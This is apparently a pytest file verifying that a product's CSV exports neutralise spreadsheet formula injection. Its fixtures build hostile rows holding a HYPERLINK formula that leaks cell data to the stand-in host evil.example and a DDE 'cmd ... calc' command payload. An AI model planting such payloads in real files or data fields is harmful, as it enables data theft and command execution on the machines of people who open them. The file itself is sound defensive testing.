"""CSV formula injection: every CSV the product writes is safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a
formula in Excel, LibreOffice or Sheets (OWASP "CSV injection"): ``=HYPERLINK(...)`` in a
post's text becomes a link that leaks data when an analyst opens the file. Every text cell
of every CSV (``radar score --out x.csv``, ``radar report --csv``, the dashboard's
``overview.csv`` and ``customers.csv``) gets a leading ``'``; numbers we computed (a
negative trend) stay numbers; JSONL and Parquet outputs keep the text exactly.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from urllib.parse import quote

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from nlp.classifier.contract import BATCH_COLUMNS
from nlp.risk import RiskConfig, RiskPost, score_brands
from nlp.types import Post, Prediction
from radar.cli import app
from radar.store import open_store
from radar.store.history import post_key, save_brand_windows

# Written out here, not imported: the test is the oracle of the rule, not a copy of it.
STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"click")'
NUMBER_COLUMNS = {c for c in BATCH_COLUMNS if c.startswith("p_")}
TEXT_COLUMNS = ("id", "brand", "author_id", "text")
ANCHOR = datetime(2024, 1, 1, tzinfo=UTC)
WEEK = timedelta(days=7)

runner = CliRunner()


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[dict[str, str]], where: str) -> None:
    """No cell of any row starts a formula, unless it is a number (``-0.05``)."""
    for number, row in enumerate(rows, start=1):
        for column, cell in row.items():
            if cell.startswith(STARTS) and not _is_number(cell):
                raise AssertionError(f"{where} row {number} column {column!r} starts a "
                                     f"formula: {cell!r}")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# --- the rule ----------------------------------------------------------------------------------


@pytest.mark.parametrize("start", STARTS)
def test_spreadsheet_safe_prefixes_each_formula_start(start):
    from nlp.spreadsheet import spreadsheet_safe

    assert spreadsheet_safe(start + PAYLOAD) == "'" + start + PAYLOAD


def test_spreadsheet_safe_leaves_numbers_and_plain_text():
    from nlp.spreadsheet import spreadsheet_safe

    for value in (-0.05, -3, 0.0, 12, True, None, "plain text", "'=already quoted", "",
                  "a=b", "3-4"):
        assert spreadsheet_safe(value) == value


def test_the_dashboard_uses_the_one_rule():
    from nlp import spreadsheet
    from radar.dashboard import export

    assert export.spreadsheet_safe is spreadsheet.spreadsheet_safe


# --- radar score --out x.csv ------------------------------------------------------------------


class FakeClassifier:
    """Deterministic stand-in: every post a churning complaint about waiting."""

    model_version = "fake-1"
    meta = {"model_version": "fake-1"}

    def predict(self, texts, keys=None):
        return [Prediction(source, post_id, "negative",
                           {"negative": 0.8, "neutral": 0.1, "positive": 0.1}, 0.9,
                           {"waiting": 0.9}, 0.8, self.model_version)
                for _text, (source, post_id) in zip(texts, keys, strict=True)]


def _hostile_dump(path) -> list[dict[str, str]]:
    """A dump whose id, brand, author and text cells each start with every formula start."""
    rows = []
    for i, start in enumerate(STARTS):
        for j, column in enumerate(TEXT_COLUMNS):
            row = {"id": f"p{i}-{j}", "brand": "Acme", "author_id": f"user{i}{j}",
                   "text": f"waited {i} hours", "created_at": "2024-01-02T10:00:00Z"}
            # A leading tab or CR in the id/brand/author columns is stripped on input, so
            # the formula start after it is what reaches the output there.
            row[column] = start + (PAYLOAD if column == "text" or start not in "\t\r"
                                   else "=" + PAYLOAD)
            if column == "id":
                row["id"] += f"-{i}"
            rows.append(row)
    # JSONL, which holds a text's leading tab or carriage return without any quoting.
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return rows


@pytest.fixture
def scored_files(tmp_path, monkeypatch):
    """`radar score` of the hostile dump into CSV, JSONL and Parquet (a fake model)."""
    import nlp.classifier

    monkeypatch.setattr(nlp.classifier, "load_classifier", lambda *a, **k: FakeClassifier())
    dump = tmp_path / "dump.jsonl"
    rows = _hostile_dump(dump)
    out = {}
    for ext in ("csv", "jsonl", "parquet"):
        out[ext] = tmp_path / f"scored.{ext}"
        result = runner.invoke(app, ["score", str(dump), "--out", str(out[ext]),
                                     "--model", "fake"], env={"COLUMNS": "200"})
        assert result.exit_code == 0, result.output
    return rows, out


def test_radar_score_csv_neutralises_every_formula_start(scored_files):
    rows, out = scored_files
    written = _csv_rows(out["csv"].read_bytes().decode("utf-8"))
    assert len(written) == len(rows)
    _assert_no_formula(written, "radar score csv")
    exact = [json.loads(line) for line in out["jsonl"].read_text(encoding="utf-8").splitlines()]
    for cells, record in zip(written, exact, strict=True):
        for column in TEXT_COLUMNS:
            value = record[column]
            # The cell is the exact value with a ' in front when it starts a formula.
            assert cells[column] == ("'" + value if value.startswith(STARTS) else value)
        for column in NUMBER_COLUMNS:  # our numbers stay numbers
            assert cells[column] == "" or float(cells[column]) == record[column]
    prefixed = [c[col] for c in written for col in TEXT_COLUMNS if c[col].startswith("'")]
    assert len(prefixed) == len(rows)  # each hostile cell, and only those


def test_jsonl_and_parquet_keep_formula_like_text_exactly(scored_files):
    rows, out = scored_files
    exact = [json.loads(line) for line in out["jsonl"].read_text(encoding="utf-8").splitlines()]
    parquet = pq.read_table(out["parquet"]).to_pylist()
    for source, records in (("jsonl", exact), ("parquet", parquet)):
        assert len(records) == len(rows), source
        for row, record in zip(rows, records, strict=True):
            assert record["text"] == row["text"], source  # exact: a leading tab or CR too
            for column in ("id", "brand", "author_id"):
                assert record[column] == row[column].strip(), source
            assert not any(str(record[c]).startswith("'") for c in TEXT_COLUMNS), source


def test_a_scored_csv_reports_as_its_jsonl_does(tmp_path):
    """The ' a CSV cell got is the file's, not the data's: reading it back undoes it (so
    an author ``@alice`` is still the brand book's handle, a reply still mentions a brand)."""
    from nlp.batch import score_dump
    from nlp.report import build_report, customer_rows

    dump = tmp_path / "dump.jsonl"
    _hostile_dump(dump)
    out = {ext: tmp_path / f"scored.{ext}" for ext in ("csv", "jsonl")}
    for path in out.values():
        score_dump(dump, path, FakeClassifier())
    from_csv, from_jsonl = build_report(out["csv"]), build_report(out["jsonl"])
    assert from_csv.unreadable == from_jsonl.unreadable == 0
    assert sorted(from_csv.posts) == sorted(from_jsonl.posts)
    for post_id, post in from_jsonl.posts.items():
        other = from_csv.posts[post_id]
        assert (other.text, other.author_id, other.brand) == (post.text, post.author_id,
                                                              post.brand)
    assert ([r["risk"] for r in customer_rows(from_csv, "Acme", reveal=True)[1]]
            == [r["risk"] for r in customer_rows(from_jsonl, "Acme", reveal=True)[1]])


# --- radar report --csv -----------------------------------------------------------------------


def _scored_for_report(path) -> list[str]:
    """A scored CSV (as a spreadsheet tool or another exporter writes it: raw) with hostile
    brands, each falling from one week to the next, so the trend is a negative number."""
    brands = [start + PAYLOAD if start not in "\t\r" else start + "=" + PAYLOAD
              for start in STARTS]
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=BATCH_COLUMNS, restval="")
        writer.writeheader()
        for b, brand in enumerate(brands):
            for week, complaint in ((0, 0.9), (1, 0.1)):
                for i in range(25):
                    writer.writerow({
                        "id": f"b{b}w{week}p{i}", "brand": brand, "author_id": f"u{b}_{i}",
                        "created_at": (ANCHOR + week * WEEK + timedelta(hours=i)).isoformat(),
                        "p_complaint": complaint, "p_positive": 0.05, "p_churn_intent": 0.1,
                        "text": "=1+1 still waiting", "model_version": "fake-1"})
    return [b.strip() for b in brands]


def test_radar_report_csv_neutralises_brands_and_keeps_numbers(tmp_path):
    scored, out_csv = tmp_path / "scored.csv", tmp_path / "report.csv"
    brands = _scored_for_report(scored)
    result = runner.invoke(app, ["report", str(scored), "--csv", str(out_csv)],
                           env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    written = _csv_rows(out_csv.read_bytes().decode("utf-8"))
    _assert_no_formula(written, "radar report csv")
    # The tab and CR brands are "=..." once the reader trims them: one brand.
    assert sorted(r["brand"] for r in written if r["latest"] == "True") == sorted(
        {"'" + b for b in brands})
    trends = [r["trend"] for r in written if r["trend"]]
    assert trends and all(float(t) < 0 for t in trends)  # a number, sign and all
    assert all(not t.startswith("'") for t in trends)


def test_report_write_csv_prefixes_text_and_keeps_numbers(tmp_path):
    from nlp.report import write_csv

    path = tmp_path / "out.csv"
    write_csv([{"brand": "@SUM(1+1)", "trend": -0.05, "customers": 3, "latest": True,
                "ci_method": "-x", "drivers": {"waiting": 1.0}}], path)
    [row] = _csv_rows(path.read_bytes().decode("utf-8"))
    assert row == {"brand": "'@SUM(1+1)", "trend": "-0.05", "customers": "3",
                   "latest": "True", "ci_method": "'-x", "drivers": '{"waiting": 1.0}'}


# --- the dashboard's overview.csv and customers.csv ------------------------------------------


@pytest.fixture
def hostile_store(tmp_path):
    """A risk history whose brands, sources and post texts start formulas."""
    pytest.importorskip("fastapi")
    brands = {start: start + "=" + PAYLOAD if start in "\t\r" else start + PAYLOAD
              for start in STARTS}
    posts, risk_posts = [], []
    for b, (start, brand) in enumerate(brands.items()):
        for week, complaint in ((0, 0.9), (1, 0.3)):
            for i in range(25):
                post_id = f"b{b}w{week}p{i}"
                # A source is ours and holds no whitespace (a tab separates it from the id
                # in a stored post key); a text's leading whitespace is trimmed for display.
                blank = start in "\t\r"
                source = "=source" if blank else f"{start}source"
                text = start + ("=" if blank else "") + f"cmd|' /C calc'!A0 waited {i} hours"
                created = ANCHOR + week * WEEK + timedelta(hours=i)
                posts.append(Post(source=source, post_id=post_id, text=text, brand=brand,
                                  author_id=f"{start}author{b}_{i}", created_at=created,
                                  url=f"{start}HYPERLINK(1)"))
                risk_posts.append(RiskPost(
                    post_id=post_key(source, post_id), brand=brand,
                    author_id=f"{start}author{b}_{i}", created_at=created,
                    p_complaint=complaint, p_positive=0.02, themes={"waiting": 0.9},
                    churn_intent=0.9 if week == 0 else 0.6, text=text))
    windows, _ = score_brands(risk_posts, RiskConfig(), window=WEEK, anchor=ANCHOR)
    db_path = tmp_path / "radar.db"
    store = open_store(db_path)
    try:
        store.save_posts(posts)
        save_brand_windows(store, windows, "fake-1", ANCHOR + 2 * WEEK)
    finally:
        store.close()
    return db_path, list(brands.values())


def test_dashboard_csvs_neutralise_every_formula_start(hostile_store, tmp_path):
    from fastapi.testclient import TestClient

    from serve import ServeSettings, create_app

    db_path, brands = hostile_store
    settings = ServeSettings(model_dir=tmp_path / "no-model", db_path=db_path,
                             dashboard_min_risk=0.0)
    with TestClient(create_app(settings)) as client:
        overview = client.get("/overview.csv")
        assert overview.status_code == 200
        rows = _csv_rows(overview.text)
        _assert_no_formula(rows, "overview.csv")
        assert sorted(r["brand"] for r in rows) == sorted("'" + b for b in brands)
        changes = [r["trend_change"] for r in rows if r["trend_change"]]
        assert changes and all(float(c) < 0 for c in changes)  # numbers, sign and all
        for brand in brands:
            response = client.get(f"/brands/{quote(brand, safe='')}/customers.csv")
            assert response.status_code == 200, (brand, response.text)
            customers = _csv_rows(response.text)
            assert customers, brand
            _assert_no_formula(customers, f"customers.csv of {brand!r}")
            assert {r["brand"] for r in customers} == {"'" + brand}
            assert all(r["post_source"].startswith("'") for r in customers)
            assert all(r["post_text"].startswith("'") for r in customers)
